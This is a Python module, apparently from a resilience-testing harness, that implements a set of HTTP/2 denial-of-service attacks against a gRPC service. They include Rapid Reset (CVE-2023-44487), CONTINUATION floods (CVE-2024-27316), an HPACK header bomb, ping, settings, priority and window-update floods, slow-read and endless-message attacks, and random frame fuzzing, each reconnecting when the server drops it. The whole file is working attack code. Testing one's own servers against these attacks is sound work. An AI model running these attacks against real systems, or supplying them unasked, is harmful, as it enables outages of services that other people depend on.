"""Attacks by frames of HTTP/2, on the port of gRPC. Each is a generator that yields after each
operation."""
import itertools
import os
import random

import hpack
from hyperframe.frame import (
    ContinuationFrame, DataFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame,
    SettingsFrame, WindowUpdateFrame,
)

from http2 import BATCH, GET_BOOK, call, discard, headers, literal, message, open_connection, streams
from target import repeat

LIST_BOOKS = "/bookstore.inventory.v1.InventoryService/ListBooks"
HUNDRED_MYSTERIES = b"\x08\x01\x10\x64"


def flood(target, frames_of_batch):
    """Sends batches of frames on one connection, and on a new one when the server closes it."""
    def attempt():
        with open_connection(target.grpc) as connection:
            for frames in frames_of_batch():
                connection.sendall(frames)
                for _ in range(BATCH):
                    yield
                discard(connection)
    return repeat(attempt)


def rapid_reset(target):
    """Begins calls and resets them at once (CVE-2023-44487)."""
    block = headers(GET_BOOK)

    def batches():
        numbers = iter(streams())
        while several := list(itertools.islice(numbers, BATCH)):
            yield b"".join(
                HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()
                + RstStreamFrame(stream, error_code=8).serialize()
                for stream in several)
    return flood(target, batches)


def continuation(target):
    """Headers that never end, in CONTINUATION frames (CVE-2024-27316)."""
    def attempt():
        with open_connection(target.grpc) as connection:
            connection.sendall(HeadersFrame(1, headers(GET_BOOK)).serialize())
            frame = ContinuationFrame(1, literal("x-pad", 16_000)).serialize()
            while True:
                connection.sendall(frame)
                yield
                discard(connection)
    return repeat(attempt)


def empty_continuation(target):
    """The same without a byte of headers, so that no limit of their size is reached."""
    def attempt():
        with open_connection(target.grpc) as connection:
            connection.sendall(HeadersFrame(1, headers(GET_BOOK)).serialize())
            frames = ContinuationFrame(1, b"").serialize() * BATCH
            while True:
                connection.sendall(frames)
                for _ in range(BATCH):
                    yield
                discard(connection)
    return repeat(attempt)


def ping(target):
    """PING frames, each of which the server has to answer."""
    frames = PingFrame(0, opaque_data=b"12345678").serialize() * BATCH
    return flood(target, lambda: itertools.repeat(frames))


def unread_pings(target):
    """PING frames of a client that reads no answer."""
    def attempt():
        with open_connection(target.grpc) as connection:
            frames = PingFrame(0, opaque_data=b"12345678").serialize() * BATCH
            while True:
                connection.sendall(frames)
                for _ in range(BATCH):
                    yield
    return repeat(attempt)


def settings(target):
    """SETTINGS frames, each of which the server has to acknowledge, with a window that changes."""
    frames = b"".join(
        SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535 + index % 2}).serialize()
        for index in range(BATCH))
    return flood(target, lambda: itertools.repeat(frames))


def priority(target):
    """PRIORITY frames for streams that do not exist."""
    frames = b"".join(
        PriorityFrame(2 * index + 1, depends_on=0, stream_weight=7).serialize() for index in range(BATCH))
    return flood(target, lambda: itertools.repeat(frames))


def window_updates(target):
    """Windows that grow by one byte at a time."""
    frames = WindowUpdateFrame(0, window_increment=1).serialize() * BATCH
    return flood(target, lambda: itertools.repeat(frames))


def empty_data(target):
    """DATA frames without data on a stream that never ends."""
    def attempt():
        with open_connection(target.grpc) as connection:
            connection.sendall(HeadersFrame(1, headers(GET_BOOK), flags=["END_HEADERS"]).serialize())
            frames = DataFrame(1, b"").serialize() * BATCH
            while True:
                connection.sendall(frames)
                for _ in range(BATCH):
                    yield
                discard(connection)
    return repeat(attempt)


def header_bomb(target):
    """Headers that are small on the wire and large when they are decoded (HPACK)."""
    def attempt():
        with open_connection(target.grpc) as connection:
            block = headers(GET_BOOK)
            # A header that gets the first place of the dynamic table, and then references to it.
            first, reference = hpack.Encoder().encode([("x-pad", "a" * 4000)], huffman=False), b"\xbe"
            for stream in streams():
                body = block + (first if stream == 1 else b"") + reference * 12_000
                connection.sendall(HeadersFrame(stream, body, flags=["END_HEADERS"]).serialize())
                yield
                discard(connection)
    return repeat(attempt)


def unread_answers(target):
    """Calls with long answers by a client that has no window for them."""
    block = headers(LIST_BOOKS)

    def attempt():
        with open_connection(target.grpc, window=0) as connection:
            for stream in streams():
                connection.sendall(call(stream, block, message(HUNDRED_MYSTERIES)))
                yield
                discard(connection)
    return repeat(attempt)


def half_messages(target):
    """As many streams as the server allows, each with a message that never ends."""
    def attempt():
        block, opened = headers(GET_BOOK), []
        half = b"\0" + (60_000).to_bytes(4, "big") + b"x" * 900
        while True:
            connection = open_connection(target.grpc)
            opened.append(connection)
            for stream in range(1, 2 * 1024, 2):
                begin = HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()
                connection.sendall(begin + DataFrame(stream, half).serialize())
                yield
                discard(connection)
    return repeat(attempt)


def long_message(target):
    """Messages that say that they have 4 GB, and send as much as the server takes."""
    def attempt():
        with open_connection(target.grpc) as connection:
            begin = HeadersFrame(1, headers(GET_BOOK), flags=["END_HEADERS"]).serialize()
            connection.sendall(begin + DataFrame(1, b"\0\xff\xff\xff\xff").serialize())
            frame = DataFrame(1, b"x" * 16_000).serialize()
            while True:
                connection.sendall(frame)
                yield
    return repeat(attempt)


def random_frames(target):
    """Frames with random types, flags, streams and contents."""
    def attempt():
        with open_connection(target.grpc) as connection:
            while True:
                length = random.randrange(64)
                stream = random.randrange(8).to_bytes(4, "big")
                frame = length.to_bytes(3, "big") + os.urandom(2) + stream + os.urandom(length)
                connection.sendall(frame)
                yield
                discard(connection)
    return repeat(attempt)

